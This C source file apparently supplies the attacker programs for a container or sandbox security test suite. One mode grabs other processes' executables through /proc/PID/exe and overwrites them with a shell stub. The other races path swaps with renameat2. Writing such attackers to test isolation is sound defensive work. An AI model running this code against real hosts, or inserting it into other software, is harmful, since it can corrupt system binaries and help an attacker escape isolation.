// The attackers of test_attacks.py, as one static program.
// catch: takes hold of every program in the pid namespace that is not its own, and writes to it whenever it can.
// swap A B: exchanges two names for each other without end.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int held[64], count;

static void take(const char* pid, struct stat own)
{
    char path[300];
    struct stat found;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = count < 64 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
    if (fd < 0)
        return;
    if (fstat(fd, &found) < 0 || found.st_size < 1 << 20 || found.st_size == own.st_size) {
        close(fd);
        return;
    }
    held[count++] = fd;
    FILE* caught = fopen("/caught", "a");
    fprintf(caught, "%lld\n", (long long)found.st_size);
    fclose(caught);
}

static void overwrite(void)
{
    char path[64];
    for (int i = 0; i < count; ++i) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (fd >= 0 && write(fd, "#!/bin/sh\n", 10) == 10)
            close(fd);
    }
}

int main(int argc, char** argv)
{
    if (argc == 4 && strcmp(argv[1], "swap") == 0)
        for (;;)
            renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
    struct stat own;
    stat("/bin/busybox", &own);
    for (;;) {
        DIR* proc = opendir("/proc");
        for (struct dirent* entry; proc && (entry = readdir(proc));)
            if (atoi(entry->d_name) > 1)
                take(entry->d_name, own);
        if (proc)
            closedir(proc);
        overwrite();
    }
}
